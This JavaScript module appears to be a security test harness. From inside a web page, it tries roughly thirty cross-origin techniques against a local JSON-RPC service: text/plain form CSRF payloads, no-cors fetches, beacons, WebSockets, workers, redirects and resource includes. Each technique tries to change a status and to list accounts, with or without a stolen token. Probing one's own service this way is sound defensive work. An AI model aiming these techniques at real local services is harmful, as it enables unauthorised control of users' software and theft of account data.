// What a page can fire at a local port. Runs inside the page: it may use nothing from out here.

/// Tries everything, with or without a stolen token, and answers with `{weapon: what could be read}`.
/// Every call that gets through sets a status that names the weapon: `prefix weapon`.
export async function fire({ base, token, prefix, elsewhere }) {
  // Longer than an answer takes on a busy machine; what is refused does not wait for it.
  const patience = 10_000;
  const rpc = `${base}/rpc`;
  const query = token ? `?token=${token}&access_token=${token}` : "";
  const authorization = token ? { Authorization: `Bearer ${token}` } : {};
  const plain = { "Content-Type": "text/plain" };
  const json = { "Content-Type": "application/json" };

  const presence = (weapon) => ({
    jsonrpc: "2.0", id: 1, method: "set_presence",
    params: { availability: "dnd", status: `${prefix} ${weapon}` },
  });
  const accounts = { jsonrpc: "2.0", id: 2, method: "list_accounts" };
  const batch = (weapon) => JSON.stringify([presence(weapon), accounts]);
  const post = async (weapon, path, options) => {
    const response = await fetch(path, { method: "POST", body: batch(weapon), ...options });
    return response.text();
  };
  const get = async (path, options) => (await fetch(`${base}${path}${query}`, options)).text();

  const websocket = (weapon) => new Promise((resolve) => {
    const heard = [];
    const bearer = token ? [`prosed.bearer.${token}`] : [];
    const socket = new WebSocket(`${rpc.replace("http", "ws")}${query}`, ["prosed.v1", ...bearer]);
    socket.onopen = () => {
      for (const call of [{ ...accounts, id: 3, method: "subscribe" }, presence(weapon), accounts])
        socket.send(JSON.stringify(call));
    };
    socket.onmessage = ({ data }) => { if (heard.push(data) >= 4) socket.close(); };
    socket.onclose = () => resolve(heard.join("\n"));
    setTimeout(() => socket.close(), patience);
  });

  // Into a frame, since the page shall stay.
  const form = (weapon, enctype) => new Promise((resolve) => {
    const frame = document.createElement("iframe");
    frame.name = `${prefix} ${weapon}`;
    document.body.append(frame);
    const form = document.createElement("form");
    Object.assign(form, { method: "POST", action: rpc + query, enctype, target: frame.name });
    // As `text/plain`, the name, «=» and the value are one JSON object, whose id is «=».
    const field = document.createElement("input");
    const [name, value] = JSON.stringify({ ...presence(weapon), id: "=" }).split("=");
    Object.assign(field, { name, value });
    form.append(field);
    document.body.append(form);
    form.submit();
    frame.onload = () => resolve(inside(frame));
    setTimeout(() => resolve(null), patience);
  });

  const inside = (frame) => {
    try { return frame.contentDocument.body.textContent; } catch { return null; }
  };

  // What a page includes comes with no Origin; of a frame it may read what is of its own.
  const include = (tag, path) => new Promise((resolve) => {
    const element = document.createElement(tag);
    element.onload = () => resolve(tag === "iframe" ? inside(element) : null);
    element.onerror = () => resolve(null);
    element[{ link: "href", object: "data" }[tag] ?? "src"] = `${base}${path}${query}`;
    if (tag === "link") element.rel = "stylesheet";
    document.body.append(element);
    setTimeout(() => resolve(null), patience);
  });

  const worker = (weapon) => new Promise((resolve, reject) => {
    const options = { method: "POST", body: batch(weapon), headers: { ...json, ...authorization } };
    const source = `fetch(${JSON.stringify(rpc)}, ${JSON.stringify(options)})
      .then((response) => response.text()).then(postMessage, () => postMessage(null));`;
    const worker = new Worker(URL.createObjectURL(new Blob([source])));
    worker.onmessage = ({ data }) => resolve(data);
    worker.onerror = reject;
    setTimeout(reject, patience);
  });

  // Works from where the page's own server is, and only in a secure context: `localhost`.
  const serviceWorker = async (weapon) => {
    await navigator.serviceWorker.register("/worker.js");
    const { active } = await navigator.serviceWorker.ready;
    const { port1, port2 } = new MessageChannel();
    const answer = new Promise((resolve) => { port1.onmessage = ({ data }) => resolve(data); });
    const options = { method: "POST", body: batch(weapon), headers: { ...json, ...authorization } };
    active.postMessage({ url: rpc, options }, [port2]);
    return answer;
  };

  const xhr = (weapon) => new Promise((resolve) => {
    const request = new XMLHttpRequest();
    request.open("POST", rpc + query);
    request.withCredentials = true;
    request.setRequestHeader("Content-Type", "text/plain");
    request.onloadend = () => resolve(request.responseText);
    request.send(batch(weapon));
  });

  const beacon = async (weapon, type) => {
    navigator.sendBeacon(rpc + query, new Blob([batch(weapon)], { type }));
    return null;
  };

  const weapons = {
    websocket,
    json: (weapon) => post(weapon, rpc, { headers: { ...json, ...authorization } }),
    "text-and-token": (weapon) => post(weapon, rpc, { headers: { ...plain, ...authorization } }),
    text: (weapon) => post(weapon, rpc + query, { headers: plain }),
    "no-type": (weapon) => post(weapon, rpc + query, { body: new Blob([batch(weapon)]) }),
    "no-cors": (weapon) => post(weapon, rpc + query, { mode: "no-cors", headers: plain }),
    "no-cors-credentials": (weapon) =>
      post(weapon, rpc + query, { mode: "no-cors", headers: plain, credentials: "include" }),
    redirected: (weapon) =>
      post(weapon, `${elsewhere}/redirect?to=${encodeURIComponent(rpc)}`, { mode: "no-cors", headers: plain }),
    "no-referrer": (weapon) =>
      post(weapon, rpc + query, { mode: "no-cors", headers: plain, referrerPolicy: "no-referrer" }),
    xhr,
    "beacon-text": (weapon) => beacon(weapon, "text/plain"),
    "beacon-json": (weapon) => beacon(weapon, "application/json"),
    "form-text": (weapon) => form(weapon, "text/plain"),
    "form-urlencoded": (weapon) => form(weapon, "application/x-www-form-urlencoded"),
    "form-multipart": (weapon) => form(weapon, "multipart/form-data"),
    worker,
    "service-worker": serviceWorker,
    "get-metrics": () => get("/metrics", { headers: authorization }),
    "get-openrpc": () => get("/openrpc.json", { headers: authorization }),
    "get-console": () => get("/"),
    "get-healthz": () => get("/healthz"),
    "get-no-cors": () => get("/metrics", { mode: "no-cors" }),
    ...Object.fromEntries(["img /rpc", "img /metrics", "script /metrics", "script /openrpc.json", "link /metrics",
      "object /openrpc.json", "iframe /rpc", "iframe /metrics", "iframe /openrpc.json"].map((included) => {
      const [tag, path] = included.split(" ");
      return [included, () => include(tag, path)];
    })),
  };
  const timeout = new Promise((end) => setTimeout(end, 2 * patience, null));
  const fired = Object.entries(weapons).map(async ([weapon, use]) => {
    // What the browser forbids reads nothing.
    const read = await Promise.race([use(weapon).catch(() => null), timeout]);
    return [weapon, read || null];
  });
  const report = Object.fromEntries(await Promise.all(fired));
  document.body.replaceChildren();
  return report;
}
